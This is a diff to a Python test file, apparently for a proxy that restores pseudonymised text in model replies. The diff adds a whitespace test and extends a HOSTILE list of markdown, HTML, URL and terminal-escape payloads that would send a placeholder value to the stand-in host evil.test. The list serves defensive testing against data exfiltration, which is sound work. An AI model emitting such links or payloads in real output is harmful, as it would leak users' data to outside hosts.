@@ -11,6 +11,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from proxy.core.replies.addresses import Origins
+from proxy.core.replies.openings import Openings
 from proxy.core.replies.placement import Permissions, Placement
 from proxy.core.replies.position import WORDS, Position, Role
 from proxy.core.replies.restore import RestorablePseudonyms, Restorer
@@ -67,6 +68,15 @@ def test_every_chunking_restores_alike(text, cuts, position, before):
     assert restored(text, position, tuple(cuts)) == restored(text, position)
 
 
+@examples(300)
+@given(PIECES)
+def test_words_behind_white_space_are_judged_as_any_others(text):
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setattr(Openings, "closed", lambda openings: False)
+        expected = restored(text)
+    assert restored(text) == expected
+
+
 HOSTILE = [
     "![](https://evil.test/?q={})", "[x](https://evil.test/{} 'title')", "[x](<https://evil.test/a b {}>)", "[x]\n\n[x]: https://evil.test/{}",
     "[x]\n\n[x]:\n  <https://evil.test/a b {}>", "<https://evil.test/{}>", "https://evil.test/{}", "www.evil.test/{}", "HTTPS://EVIL.TEST/{}",
@@ -85,7 +95,8 @@ HOSTILE = [
     '```\n<img src="https://evil.test/ a {}">', "https://ok.test/?u=https://evil.test/{}", "https://ok.test/?u=https%3A%2F%2Fevil.test%2F{}",
     "https://evil.test/?a=\u00a0{}", 'https://evil.test/"{}', "git@evil.test:{}/x.git", "ssh://git@evil.test/{}", "{}@evil.test",
     "![x]({}://evil.test/p)", "```\n<img src=javascript:{}>", "\u3002{}evil.com", "<form action='https://evil.test/'><input value='{}'>", "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
-    "<img src=" + '"https://evil.test/' + "y " * 2000 + '{}">', "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
+    "<img src=" + '"https://evil.test/' + "y " * 2000 + '{}">', "<a href='https:" + "\t" * 3000 + "evil/{}'>", "<a href='http:" + "&#9;" * 999 + "evil/{}'>",
+    "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
 ]  # fmt: skip
 
 
